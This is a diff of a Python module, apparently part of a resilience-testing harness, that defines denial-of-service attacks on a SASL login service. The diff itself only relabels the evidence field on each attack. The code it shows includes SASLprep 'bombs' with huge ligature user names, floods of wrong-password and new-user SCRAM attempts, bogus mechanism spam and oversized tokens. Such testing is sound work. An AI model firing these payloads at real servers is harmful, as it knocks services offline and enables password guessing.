@@ -54,7 +54,7 @@ def _has_answered(connection: socket.socket) -> bool:
     return bool(connection.recv(struct.unpack(">i", head)[0], socket.MSG_WAITALL))
 
 
-@attack("SCRAM with a 4 KB user name that is expensive to prepare (SASLprep)", evidence=Evidence.LOGINS)
+@attack("SCRAM with a 4 KB user name that is expensive to prepare (SASLprep)", evidence=Evidence.ANSWERS)
 def saslprep_bomb(field: Field) -> Iterator[None]:
     name = (ARABIC_LIGATURE * (4000 // 3)).encode()
     frames = [_handshake("SCRAM-SHA-256"), _token(b"n,,n=" + name + b",r=nonce")]
@@ -62,7 +62,7 @@ def saslprep_bomb(field: Field) -> Iterator[None]:
     _log_in_again_and_again(field, lambda number: frames)
 
 
-@attack("the same with PLAIN", evidence=Evidence.LOGINS)
+@attack("the same with PLAIN", evidence=Evidence.ANSWERS)
 def saslprep_bomb_plain(field: Field) -> Iterator[None]:
     name = (ARABIC_LIGATURE * (4000 // 3)).encode()
     frames = [_handshake("PLAIN"), _token(b"\0" + name + b"\0password")]
@@ -70,7 +70,7 @@ def saslprep_bomb_plain(field: Field) -> Iterator[None]:
     _log_in_again_and_again(field, lambda number: frames)
 
 
-@attack("the same with 500 KiB", evidence=Evidence.LOGINS)
+@attack("the same with 500 KiB", evidence=Evidence.ANSWERS)
 def saslprep_bomb_large(field: Field) -> Iterator[None]:
     name = (ARABIC_LIGATURE * (500_000 // 3)).encode()
     frames = [_handshake("PLAIN"), _token(b"\0" + name + b"\0password")]
@@ -78,21 +78,21 @@ def saslprep_bomb_large(field: Field) -> Iterator[None]:
     _log_in_again_and_again(field, lambda number: frames)
 
 
-@attack("wrong passwords with PLAIN, a connection each", evidence=Evidence.LOGINS)
+@attack("wrong passwords with PLAIN, a connection each", evidence=Evidence.ANSWERS)
 def sasl_flood_plain(field: Field) -> Iterator[None]:
     handshake, user = _handshake("PLAIN"), field.target.user.encode()
     yield
     _log_in_again_and_again(field, lambda number: [handshake, _token(b"\0%s\0wrong%d" % (user, number))])
 
 
-@attack("first messages of SCRAM for ever new users, a connection each", evidence=Evidence.CONNECTIONS)
+@attack("first messages of SCRAM for ever new users, a connection each", evidence=Evidence.ANSWERS)
 def sasl_flood_scram(field: Field) -> Iterator[None]:
     handshake = _handshake("SCRAM-SHA-256")
     yield
     _log_in_again_and_again(field, lambda number: [handshake, _token(b"n,,n=user%d,r=nonce" % number)])
 
 
-@attack("SCRAM to its end with a wrong proof, a connection each", evidence=Evidence.LOGINS)
+@attack("SCRAM to its end with a wrong proof, a connection each", evidence=Evidence.ANSWERS)
 def sasl_flood_scram_proofs(field: Field) -> Iterator[None]:
     handshake, user = _handshake("SCRAM-SHA-256"), field.target.user.encode()
     proof = b"c=biws,r=nonce,p=" + b"A" * 43 + b"="
@@ -102,21 +102,21 @@ def sasl_flood_scram_proofs(field: Field) -> Iterator[None]:
     )
 
 
-@attack("mechanisms that nobody has, 500 on a connection", evidence=Evidence.CONNECTIONS)
+@attack("mechanisms that nobody has, 500 on a connection", evidence=Evidence.ANSWERS)
 def sasl_handshakes(field: Field) -> Iterator[None]:
     frames = [_handshake("x" * 30_000)] * 500
     yield
     _log_in_again_and_again(field, lambda number: frames)
 
 
-@attack("SCRAM messages of 500 KiB, a connection each", evidence=Evidence.CONNECTIONS)
+@attack("SCRAM messages of 500 KiB, a connection each", evidence=Evidence.ANSWERS)
 def sasl_large_tokens(field: Field) -> Iterator[None]:
     frames = [_handshake("SCRAM-SHA-256"), _token(b"n,,n=user,r=" + b"=2C," * 120_000)]
     yield
     _log_in_again_and_again(field, lambda number: frames)
 
 
-@attack("good logins, a connection each", evidence=Evidence.LOGINS)
+@attack("good logins, a connection each", evidence=Evidence.ANSWERS)
 def good_logins(field: Field) -> Iterator[None]:
     user, password = field.target.user.encode(), field.target.password.encode()
     frames = [_handshake("PLAIN"), _token(b"\0" + user + b"\0" + password)]
